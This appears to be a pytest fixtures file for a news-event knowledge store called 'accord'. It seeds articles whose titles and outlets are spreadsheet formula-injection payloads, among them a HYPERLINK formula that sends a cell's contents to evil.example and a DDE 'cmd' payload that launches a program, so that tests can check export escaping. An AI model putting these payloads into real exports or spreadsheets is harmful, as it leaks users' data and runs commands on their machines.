"""The hostile corpus, generated at test time: stores, files and strings an attacker or a
broken disk could hand accord. Each test asserts one clear error (or a correct result),
nothing written where it should not be, and no traceback."""

from __future__ import annotations

import hashlib
import sys
from pathlib import Path

import pytest

sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "store"))

from store_fakes import FakePipeline  # noqa: E402

#: Titles and outlets a spreadsheet would run as formulas.
FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1")


@pytest.fixture(scope="module")
def hostile_kb(tmp_path_factory):
    """A store whose articles carry formula titles and outlets, with events whose CAMEO codes
    start with 0 (040, 051, 070) and negative Goldstein values (condemned: -2)."""
    from accord import Store
    from accord.ingest.article import make_article

    path = tmp_path_factory.mktemp("hostile") / "kb.duckdb"
    sentences = ["Hungary met Serbia.", "Croatia praised Bosnia.", "Serbia aided Kosovo.", "Serbia condemned Albania.", "Russia threatened France.", "France praised Croatia."]
    items = []
    for i, (formula, sentence) in enumerate(zip(FORMULAS, sentences)):
        text = f"Dispatch {i}. {sentence} " + " ".join(f"h{i}y{j}" for j in range(40)) + "."
        url = f"https://news{i}.example/{i}"
        items.append(make_article(text=text, title=formula, outlet=formula, url=url, published="2025-03-10", source=url))
    with Store(path) as store:
        store.ingest_articles(items, pipeline=FakePipeline())
    return path


@pytest.fixture
def cli():
    """Run ``accord ...`` in-process; returns the click Result (stdout and stderr apart)."""
    from typer.testing import CliRunner

    from accord.interfaces.cli import app

    runner = CliRunner()

    def run(*args: str):
        return runner.invoke(app, [str(a) for a in args])

    return run


def one_line_error(result, *needles: str) -> str:
    """Assert a CLI result is one error line (exit 1, no traceback) containing ``needles``."""
    assert result.exit_code == 1, (result.exit_code, result.stdout, result.stderr, result.exception)
    assert result.exception is None or isinstance(result.exception, SystemExit)
    message = result.stderr.strip()
    assert "Traceback" not in result.stderr + result.stdout
    assert message.startswith("error:") and "\n" not in message, message
    for needle in needles:
        assert needle in message, message
    return message


def snapshot(folder: Path) -> dict[str, str]:
    """Every file under ``folder`` with a hash of its bytes (to show nothing was written)."""
    return {str(p.relative_to(folder)): hashlib.sha256(p.read_bytes()).hexdigest() for p in sorted(folder.rglob("*")) if p.is_file()}
